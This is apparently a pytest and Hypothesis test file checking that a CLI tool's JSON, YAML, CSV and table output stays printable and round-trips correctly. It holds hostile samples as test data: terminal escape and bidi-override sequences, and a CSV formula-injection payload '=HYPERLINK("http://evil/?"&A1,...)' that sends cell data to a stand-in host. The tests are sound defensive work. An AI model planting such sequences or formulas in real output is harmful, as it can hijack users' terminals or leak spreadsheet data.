"""What is printed: each form says the same, and nothing in it can steer a terminal."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta, timezone
from enum import StrEnum
from pathlib import Path
from uuid import UUID

import msgspec
import pytest
import yaml
from hypothesis import example, given
from hypothesis import strategies as st

from genctl.base.printable import is_printable, printable, printable_lines
from genctl.cli import formats, tables
from genctl.cli.formats import shorten, width

HOSTILE = "\x1b]0;x\x07 \x9b31m \u202edrawkcab\u2066 \u2028 \ud800 \r\n\t \ufeff \U000e0041 é 漢字 👩‍🚀"
texts = st.one_of(st.text(), st.text(alphabet=HOSTILE), st.just(HOSTILE))
values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | texts,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(texts, inner, max_size=3),
    max_leaves=8,
)
rows = st.lists(st.fixed_dictionaries({"a": values, "b": texts}), max_size=4)


@given(texts)
@example(HOSTILE)
def test_printable_text_is_what_a_terminal_only_shows(text: str) -> None:
    shown = printable(text)
    assert is_printable(shown)
    assert printable(shown) == shown
    assert "\n" not in shown


def test_an_escape_shows_which_character_it_was() -> None:
    assert printable("a\x1b\x9b\n\u202e\U000e0041é漢👩‍🚀") == r"a\x1b\x9b\n\u202e\U000e0041é漢👩‍🚀"


@given(values)
@example({"a": HOSTILE})
def test_json_is_json_and_steers_no_terminal(value: object) -> None:
    for text in (formats.to_json(value), formats.to_json(value, indent=2)):
        assert json.loads(text) == value
        assert is_printable(text.replace("\n", ""))


@given(values)
@example({"a": HOSTILE, "b": "two\nlines\n", "c": "off", "d": "2025-11-02", "e": ["", " x", "- y", "'"]})
def test_yaml_reads_back_and_steers_no_terminal(value: object) -> None:
    text = formats.to_yaml(value)
    assert is_printable(text.replace("\n", ""))
    assert yaml.safe_load(text) == json.loads(json.dumps(value, ensure_ascii=False))


@given(rows)
def test_rows_written_one_by_one_are_one_document(rows: list[dict[str, object]]) -> None:
    def written(writer: formats.Writer) -> str:
        body = "".join(writer.row(row, before) for before, row in enumerate(rows))
        return body + writer.end(len(rows))

    assert json.loads(written(formats.JSON)) == rows
    assert yaml.safe_load(written(formats.YAML)) == rows
    lines = written(formats.JSON_LINES).split("\n")
    assert lines.pop() == ""
    assert [json.loads(line) for line in lines] == rows


def test_csv_is_rfc_4180_with_nested_values_as_json() -> None:
    writer = formats.csv_writer(["a", "b"])
    text = writer.row({"a": 'say "hi", twice', "b": {"c": [1]}}, 0) + writer.row({"a": None, "b": True}, 1)
    assert text == 'a,b\r\n"say ""hi"", twice","{""c"": [1]}"\r\n,true\r\n'
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ['say "hi", twice', '{"c": [1]}']


@given(st.lists(texts, min_size=1, max_size=3))
@example([HOSTILE, '=HYPERLINK("http://evil/?"&A1,"x")', " @SUM(1)"])
def test_csv_steers_no_terminal_and_no_spreadsheet(found: list[str]) -> None:
    """Names of columns too; each row is one line, whoever reads it."""
    names = [f"{text}{number}" for number, text in enumerate(found)]
    text = formats.csv_writer(names).row(dict(zip(names, found, strict=True)), 0)
    lines = text.split("\r\n")
    assert len(lines) == 3
    assert all(map(is_printable, lines))
    for field in (field for row in csv.reader(io.StringIO(text, newline="")) for field in row):
        assert not field.lstrip().startswith(tuple("=+-@\t\r＝＋－＠"))


def test_csv_leaves_numbers_below_nought_alone() -> None:
    assert formats.csv_writer(["a"]).row({"a": -4}, 1) == "-4\r\n"


@given(texts)
@example(f"{HOSTILE}\n=1\r\nend")
def test_laid_out_text_keeps_its_lines_and_nothing_else_that_steers(text: str) -> None:
    shown = printable_lines(text)
    assert is_printable(shown.replace("\r\n", "").replace("\n", ""))
    assert shown.count("\n") == text.count("\n")
    assert printable_lines(shown) == shown


def test_csv_of_nothing_is_its_header() -> None:
    assert formats.csv_writer(["a", "b"]).end(0) == "a,b\r\n"
    assert formats.csv_writer([]).end(0) == ""


@given(
    st.lists(st.fixed_dictionaries({"id": st.uuids(), "text": texts, "n": values}), min_size=1),
    st.integers(30, 120),
)
def test_a_table_fits_the_terminal_and_steers_none(rows: list[dict[str, object]], room: int) -> None:
    table = tables.table([formats.plain(row) for row in rows], ["id", "text", "n"], room)
    lines = table.split("\n")
    assert len(lines) == len(rows) + 3 or table.count("-[ ") >= len(rows)
    assert all(width(line) <= room and is_printable(line) for line in lines)


@given(st.dictionaries(texts.filter(bool), values, min_size=1), st.integers(40, 120))
def test_a_sheet_steers_no_terminal(thing: dict[str, object], room: int) -> None:
    assert is_printable(formats.sheet(thing, room).replace("\n", ""))


def test_a_finding_keeps_its_words_and_its_command_whole_on_a_narrow_terminal() -> None:
    text = formats.findings([("failures", "attention", "9 in the last hour " * 4, "genctl doctor")], 40)
    assert text.startswith("ATTENTION  failures")
    assert text.count("hour") == 4
    assert text.splitlines()[-1].strip() == "genctl doctor"


@pytest.mark.parametrize("room", [40, 60, 80, 120])
def test_a_finding_is_as_wide_as_the_terminal_and_breaks_no_word_that_fits(room: int) -> None:
    code = "OutputImageSensitiveContentDetected"
    lines = [
        ("migrations", "ok", "all 26 applied", "genctl migrate status"),
        (
            "ours",
            "attention",
            f"3 in the last hour that no user can mend: 2 {code}, 1 Timeout",
            "genctl doctor",
        ),
        ("groups", "ok", "messages have their group; `genctl doctor --send` tests them", ""),
        (
            "api",
            "error",
            "it is away",
            "check that it runs and that its URL is right; else `genctl up` starts one",
        ),
    ]
    text = formats.findings(lines, room)
    assert max(map(width, text.splitlines())) <= room
    for whole in (code, "genctl migrate status", "`genctl doctor --send`"):
        assert whole in text


def test_a_sheet_names_nested_values_by_their_path_and_wraps_long_ones() -> None:
    sheet = formats.sheet(
        {"id": 1, "error_details": {"code": "X", "more": {"a": None}}, "text": "word " * 20}, 60
    )
    lines = sheet.splitlines()
    assert lines[:3] == [
        "id                    1",
        "error_details.code    X",
        "error_details.more.a  -",
    ]
    assert len(lines) > 4
    assert max(map(len, lines)) <= 60


def test_numbers_stand_to_the_right_and_ids_that_look_like_numbers_stay() -> None:
    table = tables.table([{"n": 5, "id": "1e5"}, {"n": 1234, "id": "0x1"}], ["n", "id"], None)
    assert table.splitlines()[2:] == ["   5  1e5", "1234  0x1"]
    assert tables.table([{"why": None, "n": 7}], ["why", "n"], None).splitlines()[2] == "-    7", "no number"


@pytest.mark.parametrize("text", ["漢字", "ｶﾞ", "e\u0301te\u0301", "नमस्ते", "👩‍🚀", "a\u00adb"])
def test_wide_and_combining_characters_keep_the_columns_aligned(text: str) -> None:
    """tabulate measures by wcwidth, as we do; that it is installed is up to pyproject.toml."""
    table = tables.table([{"who": text, "n": 7}, {"who": "x" * 9, "n": 1234}], ["who", "n"], None)
    assert {width(line) for line in table.splitlines()} == {9 + 2 + 4}
    (line, _) = formats.sheet({text: 1, "x" * 9: 2}, None).splitlines()
    assert width(line) == 9 + 2 + 1


def test_lines_are_aligned_before_all_rows_are_known() -> None:
    lines = tables.lines_writer({"at": 6, "who": 8, "text": 0}, 50)
    assert lines.row({"at": "09:30", "who": "漢字", "text": "x" * 20}, 0) == (
        f"at      who       text\n09:30   漢字      {'x' * 20}\n"
    )


def test_what_does_not_fit_on_a_line_stands_below_it_whole() -> None:
    lines = tables.lines_writer({"at": 24, "sessionId": 36, "code": 12, "says": 0}, 50)
    row = {
        "at": f"{datetime.now(UTC):%Y-%m-%d}T09:30:01.000Z",
        "sessionId": "3f2a1b4c-0000-4000-8000-000000000000",
        "code": "AVeryLongCodeThatIsNotCut",
        "says": "a sentence of " + "many words " * 3,
    }
    assert lines.row(row, 0).splitlines() == [
        "at         session        code",
        "09:30:01Z  3f2a1b4c-0000",
        "    AVeryLongCodeThatIsNotCut",
        "    a sentence of many words many words many words",
    ]


def test_no_line_breaks_inside_a_command_that_people_copy() -> None:
    text = "trust the ledger: `genctl credits adjust --user ann --to-ledger --reason T`, or ask somebody"
    assert formats.wrapped(text, 70).splitlines() == [
        "trust the ledger:",
        "`genctl credits adjust --user ann --to-ledger --reason T`, or ask",
        "somebody",
    ]
    assert (
        "`genctl credits adjust --user ann --to-ledger --reason T`" in formats.wrapped(text, 40).splitlines()
    )


@given(texts, st.integers(1, 40))
def test_shortened_text_takes_at_most_so_many_columns(text: str, columns: int) -> None:
    text = printable(text)
    short = shorten(text, columns)
    assert width(short) <= columns
    assert short == text or short.endswith("…")


class Colour(StrEnum):
    RED = "red"


class Thing(msgspec.Struct, rename="camel"):
    session_id: UUID
    error_details: dict[str, object] | None = msgspec.field(name="error_details", default=None)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (datetime(2025, 11, 2, 9, 30, 1, 234567, UTC), "2025-11-02T09:30:01.234Z"),
        (datetime(2025, 11, 2, 9, 30, tzinfo=timezone(timedelta(hours=2))), "2025-11-02T07:30:00.000Z"),
        (UUID(int=1), "00000000-0000-0000-0000-000000000001"),
        (Colour.RED, "red"),
        ((1, {2}), [1, [2]]),
        (float("nan"), None),
        (Path("/x"), "/x"),
        (b"\xff", "�"),
        ({UUID(int=0): 1}, {"00000000-0000-0000-0000-000000000000": 1}),
        (Thing(UUID(int=0)), {"sessionId": "00000000-0000-0000-0000-000000000000", "error_details": None}),
    ],
)
def test_plain_values_are_those_of_the_api(value: object, expected: object) -> None:
    assert formats.plain(value) == expected
